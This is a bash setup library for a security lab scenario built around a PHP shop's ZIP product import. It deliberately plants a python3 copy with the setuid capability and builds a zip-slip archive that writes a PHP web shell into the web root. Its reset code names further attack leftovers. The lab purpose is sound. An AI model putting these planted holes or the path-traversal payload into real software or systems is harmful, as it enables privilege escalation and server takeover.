# shellcheck shell=bash
# The PHP shop's product import (scenarios shop-import and benign-ops):
# functions sourced by their scenario scripts, root side, idempotent.
# The shop of setup (/var/www/html, www-data) plus admin/import.php from
# shopimp/www/ (a ZIP of photos + products.csv, unzip -o -: into
# catalog/incoming/<batch>/, convert for thumbnails; "office only" by a
# trusted X-Forwarded-For). setup --reset-only puts the web root back;
# shopimp_reset undoes what these scenarios change elsewhere:
#   shopimp_install        the import page over the freshly reset web root
#   shopimp_plant_cap      the admin's leftover: a copy of python3 with cap_setuid+ep
#   shopimp_zips DIR N     photo ZIPs (photos-w49-1..N.zip) + the attacker's (catalog-update.zip)
#   shopimp_reset          capability copy, motd script, temp files, alice's account back

SHOPIMP=$LAB_DIR/shopimp
SHOPIMP_PYCAP=/usr/local/bin/python3-backup

shopimp_install() {
  cp -r "$SHOPIMP/www/." "$WEBROOT/"
  install -d "$WEBROOT/catalog/incoming"
  chown -R www-data:www-data "$WEBROOT"
}

# an admin once copied python3 to run backups with setuid and forgot it
shopimp_plant_cap() {
  install -m 755 "$(readlink -f /usr/bin/python3)" "$SHOPIMP_PYCAP"
  setcap cap_setuid+ep "$SHOPIMP_PYCAP"
}

shopimp_zips() { # dir count: photo ZIPs for the import page, owned by labremote
  local d=$1 n=$2
  install -d -o labremote -g labremote "$d"
  $PY - "$d" "$n" "$SHOPIMP/attacker/pxl.php" <<'PYEOF'
import sys, zlib, struct, zipfile
d, n, shell = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "rb").read()
def png(rgb, w=160, h=120):
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    def chunk(t, b): return struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b) & 0xffffffff)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
items = ["mug-blue", "mug-red", "tee-green", "tee-black", "cap-grey", "bag-tote", "sock-pair", "pin-set"]
for i in range(1, n + 1):
    with zipfile.ZipFile("%s/photos-w49-%d.zip" % (d, i), "w", zipfile.ZIP_DEFLATED) as z:
        rows = ["sku,name,price,photo"]
        for k in range(2 + i % 3):
            it = items[(i + k) % len(items)]
            rows.append("%s-%d,%s,%d.90,photos/%s-%d.png" % (it.upper(), i, it.replace("-", " "), 9 + k, it, i))
            z.writestr("photos/%s-%d.png" % (it, i), png(((i * 40) % 256, (k * 70) % 256, 120)))
        z.writestr("products.csv", "\n".join(rows) + "\n")
# the attacker's archive: a believable photo + CSV, and a member whose name
# climbs out of catalog/incoming/<batch>/ into the web root's img/
with zipfile.ZipFile("%s/catalog-update.zip" % d, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("products.csv", "sku,name,price,photo\nTEE-NAVY-1,tee navy,14.90,photos/tee-navy-1.png\n")
    z.writestr("photos/tee-navy-1.png", png((20, 30, 90)))
    z.writestr("../../../img/pxl.php", shell)
PYEOF
  chown -R labremote:labremote "$d"
}

shopimp_reset() {
  rm -f "$SHOPIMP_PYCAP" /etc/update-motd.d/60-sysinfo /tmp/f /tmp/.c.tgz /tmp/.s
  # the attack locks alice's password and expires her account: as setup left it
  if getent passwd alice > /dev/null; then
    usermod -p '*' alice
    chage -E -1 alice
  fi
}

# ------------------------------------------------------------------ benign-ops only
#   shopimp_ops_install DIR   the innocent day's extra state; DIR: the package mirror's files
#   shopimp_ops_reset         all of it undone (atd stopped by its pid file)

SHOPIMP_MARK_UID=2019   # mark, the departed employee the admin locks out

shopimp_ops_install() {
  local v=$1 tmp
  # checkout: invoices rendered by the site's PDF stub, confirmation mails
  cp -r "$SHOPIMP/benign/www/." "$WEBROOT/"
  install -d "$WEBROOT/invoices"
  chown -R www-data:www-data "$WEBROOT"
  install -m 755 "$LAB_DIR/shop2/benign/bin/shop-invoice-pdf" /usr/local/bin/shop-invoice-pdf
  # the hosting company's monitoring agent, root cron every minute
  install -m 755 "$SHOPIMP/benign/bin/shop-monitor-agent" /usr/local/sbin/shop-monitor-agent
  install -m 644 "$SHOPIMP/benign/cron.d-shop-monitor" /etc/cron.d/shop-monitor
  # the departed employee's account (created before the capture)
  if ! getent passwd mark > /dev/null; then
    getent passwd "$SHOPIMP_MARK_UID" > /dev/null && die "uid $SHOPIMP_MARK_UID is taken (needed for mark)"
    useradd -u "$SHOPIMP_MARK_UID" -U -m -s /bin/bash -c 'Mark (sales, left 2026-11-27)' mark
    usermod -p '$6$lab$Q1vWQ0ZQ6Hq0Kk1Tt0mU1q7yq2nQ8u3m2mGm0bS6a2m9r1Vb0Z8l5w4p3x2y1z0aBcDeFgHiJkLmNoPqRsTu.' mark
  fi
  # at: the admin's one-off job (Debian's at; atd started by hand, stopped by its pid file)
  if ! command -v at > /dev/null; then
    DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends at
  fi
  pid_alive /run/atd.pid || svc /usr/sbin/atd
  # the package mirror (labremote's HTTP server): installer + its sha384, the composer stand-in, the dist zip
  install -d -o labremote -g labremote "$v"
  cp "$SHOPIMP/benign/vendor/composer-setup.php" "$v/installer"
  sha384sum "$v/installer" | cut -d' ' -f1 > "$v/installer.sig"
  cp "$SHOPIMP/benign/vendor/composer.phar" "$v/composer.phar"
  # served flat: lib/attacker-http.py answers GET /dist/<file> with <file>
  $PY - "$v/acme-imaging-2.1.0.zip" "$SHOPIMP/benign/vendor/Thumb.php" <<'PYEOF'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    z.write(sys.argv[2], "src/Thumb.php")
    z.writestr("composer.json", '{"name": "acme/imaging", "version": "2.1.0", "autoload": {"psr-4": {"Acme\\\\Imaging\\\\": "src/"}}}\n')
PYEOF
  chown -R labremote:labremote "$v"
  rm -rf /home/deploy/shop-tools
}

shopimp_ops_reset() {
  local j
  rm -f /usr/local/sbin/shop-monitor-agent /etc/cron.d/shop-monitor /usr/local/bin/shop-invoice-pdf
  rm -rf /var/lib/shop-monitor /etc/nginx/ssl /home/deploy/shop-tools
  rm -f /etc/update-motd.d/20-shop-notice /home/alice/nginx-conf-*.tgz /tmp/shop.lab.local.key /tmp/shop.lab.local.crt
  if command -v atq > /dev/null; then
    for j in $(atq 2> /dev/null | cut -f1); do atrm "$j" 2> /dev/null || true; done
  fi
  stop_pidfile /run/atd.pid atd
  if [ "$(id -u mark 2> /dev/null)" = "$SHOPIMP_MARK_UID" ]; then userdel -r mark 2> /dev/null || true; fi
}
